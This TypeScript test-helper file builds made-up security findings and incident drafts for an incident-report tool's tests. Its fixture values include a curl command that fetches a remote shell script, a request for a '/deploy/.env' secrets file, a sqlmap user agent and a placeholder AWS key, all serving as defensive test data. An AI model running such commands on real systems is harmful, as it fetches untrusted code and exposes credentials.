import { fillTemplate } from '../../model/fill-template.ts'
import type { Finding } from '../../model/finding.ts'
import type { Harvest } from '../../model/harvest.ts'
import type { Incident } from '../../model/incident.ts'
import type { Block, Inline } from '../../model/report.ts'
import type { Rule } from '../../findings/sigma/rule.ts'
import { finding, harvest, session, time } from '../../incident/draft/made-up-harvest.ts'
import { draftInto } from './draft-edits.ts'
import { newRecord } from './draft-record.ts'

/* Drafts for tests: of every rule that ships, with nothing, one, two and many of everything. */

const values: Record<string, string[]> = {
  'user.name': ['ci-deploy'],
  'user.target.name': ['svc-metrics', 'svc-second'],
  'source.ip': ['198.51.100.9'],
  'host.name': ['bastion01'],
  'event.action': ['GetSecretValue'],
  'event.provider': ['secretsmanager.amazonaws.com'],
  'error.code': ['AccessDenied'],
  'cloud.account.id': ['111122223333'],
  'process.command_line': ['/usr/bin/curl -s http://files.example.net/u.sh'],
  'url.path': ['/deploy/.env'],
}

/** A finding of a rule that ships, as reading evidence would give it. */
export function findingOf(rule: Rule, parts: { count: number; outcome: string; isNamed: boolean; at: string }): Finding {
  const known = parts.isNamed ? values : {}
  const story = rule.story
  const failed = parts.outcome === 'failure'
  const template = (failed ? (story?.failed ?? story?.one) : story?.one) ?? 'An event.'
  const base = finding({ id: rule.id, sessions: ['away'], count: parts.count, outcome: parts.outcome, at: parts.at })
  return {
    ...base,
    rule: { id: rule.id, hash: rule.hash, title: rule.title, level: rule.level, ...(story === undefined ? {} : { story }) },
    techniques: rule.techniques,
    tactics: rule.tactics,
    key: { 'event.outcome': parts.outcome },
    values: known,
    left: story?.leaves === undefined || failed ? [] : ['snap-0f3e9a7712c4d5b68', 'svc-metrics'],
    examples: base.examples.map((example) => ({ ...example, sentence: fillTemplate(template, (name) => known[name]?.[0]) })),
  }
}

export function draftedFrom(found: Harvest): Incident {
  return draftInto(newRecord('INC-2026-0001'), found, { author: 'Hindcast', at: '2026-03-06T00:00:00Z' }).state.document
}

/** Harvests with one, two or many findings of the rules that ship, some answered, some refused, some in doubt. */
export function harvests(rules: readonly Rule[]): (readonly [string, Harvest])[] {
  const away = session({ id: 'away', user: 'ci-deploy', address: '198.51.100.9', agent: 'sqlmap/1.8', credential: 'AKIAEXAMPLE12345' })
  const home = session({ id: 'home', count: 400, first: time('2026-02-01T10:00:00Z') })
  const some = (choose: (rule: Rule, index: number) => boolean, outcome: (index: number) => string): Finding[] =>
    rules
      .filter((rule) => rule.story !== undefined)
      .filter(choose)
      .map((rule, index) => {
        const made = findingOf(rule, {
          count: [1, 2, 41][index % 3] ?? 1,
          outcome: outcome(index),
          isNamed: index % 5 !== 0,
          at: `2026-03-0${(index % 7) + 1}T10:${10 + (index % 40)}:00Z`,
        })
        return rule.story?.role === 'response' ? { ...made, sessions: ['home'] } : made
      })
  const all: [string, Finding[]][] = [
    ['nothing', []],
    ...[0, 1, 2, 3, 5, 8, 13].map((skip): [string, Finding[]] => [
      `every ${skip + 1}th rule`,
      some(
        (_, index) => index % (skip + 1) === 0,
        () => 'success',
      ),
    ]),
    [
      'one rule',
      some(
        (_, index) => index === 20,
        () => 'success',
      ),
    ],
    [
      'only refusals',
      some(
        (_, index) => index % 4 === 0,
        () => 'failure',
      ),
    ],
    [
      'successes and refusals',
      some(
        () => true,
        (index) => (index % 2 === 0 ? 'success' : 'failure'),
      ),
    ],
    [
      'only responses',
      some(
        (rule) => rule.story?.role === 'response',
        () => 'success',
      ),
    ],
  ]
  return all.map(([name, findings]) => [name, harvest({ sessions: [home, away], findings })] as const)
}

/** The words of a block: one text for each paragraph, item and cell. */
export function blockTexts(block: Block): string[] {
  if (block.kind === 'paragraph') return [wordsOf(block.content)]
  if (block.kind === 'list') return block.items.map(wordsOf)
  if (block.kind === 'table') return block.rows.flatMap((row) => row.map(wordsOf))
  if (block.kind === 'properties') return block.items.map(({ content }) => wordsOf(content))
  if (block.kind === 'quote') return block.blocks.flatMap(blockTexts)
  if (block.kind === 'block-list') return block.items.flat().flatMap(blockTexts)
  if (block.kind === 'source') return [wordsOf(block.content)]
  return block.kind === 'figure' ? [block.figure.alt] : []
}

/** Inlines as a reader sees them: marks in brackets, citations as their labels. */
function wordsOf(content: readonly Inline[]): string {
  return content.map(wordOf).join('')
}

function wordOf(inline: Inline): string {
  switch (inline.kind) {
    case 'break':
      return '\n'
    case 'citation':
      return `[${inline.label}]`
    case 'badge':
      return `(${inline.text})`
    default:
      return inline.text
  }
}
